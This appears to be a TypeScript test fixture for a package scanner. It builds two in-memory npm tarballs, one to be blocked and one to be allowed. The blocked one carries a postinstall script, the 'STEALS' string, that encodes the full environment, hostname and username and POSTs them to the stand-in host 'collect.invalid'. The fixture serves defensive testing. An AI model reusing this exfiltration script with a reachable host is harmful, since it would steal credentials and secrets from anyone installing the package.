/**
 * A package that must be blocked, and its honest twin, made in memory: `doctor` scans both, so that "guarded" is
 * shown and not said. Neither does anything when it is only read; the host can never be reached (RFC 2606).
 */
import { gzipSync } from 'node:zlib';
import { Header } from 'tar';

const MANIFEST = { version: '1.0.0', main: 'index.js', scripts: { postinstall: 'node install.js' } };

const STEALS = `const os = require('os');
const https = require('https');
const data = Buffer.from(JSON.stringify({ env: process.env, host: os.hostname(), user: os.userInfo().username })).toString('base64');
const request = https.request({ hostname: 'collect.invalid', path: '/', method: 'POST' });
request.on('error', () => {});
request.end(data);
`;
const HONEST = `const fs = require('fs');
const path = require('path');
if (!fs.existsSync(path.join(__dirname, 'index.js'))) throw new Error('index.js is missing: install the package again');
`;

export interface Proof {
  readonly name: string;
  readonly bytes: Uint8Array;
  readonly expected: 'block' | 'allow';
}

export function proofs(): Proof[] {
  return [
    { name: 'proof-of-block', bytes: tarball('proof-of-block', STEALS), expected: 'block' },
    { name: 'proof-of-allow', bytes: tarball('proof-of-allow', HONEST), expected: 'allow' },
  ];
}

function tarball(name: string, install: string): Uint8Array {
  const files = {
    'package.json': JSON.stringify({ name, ...MANIFEST }),
    'index.js': 'module.exports = 1;\n',
    'install.js': install,
  };
  const blocks = Object.entries(files).flatMap(([path, text]) => {
    const body = Buffer.from(text);
    const header = new Header({ path: `package/${path}`, mode: 0o644, size: body.length, type: 'File' });
    const head = Buffer.alloc(512);
    header.encode(head);
    return [head, body, Buffer.alloc((512 - (body.length % 512)) % 512)];
  });
  return gzipSync(Buffer.concat([...blocks, Buffer.alloc(1024)]));
}
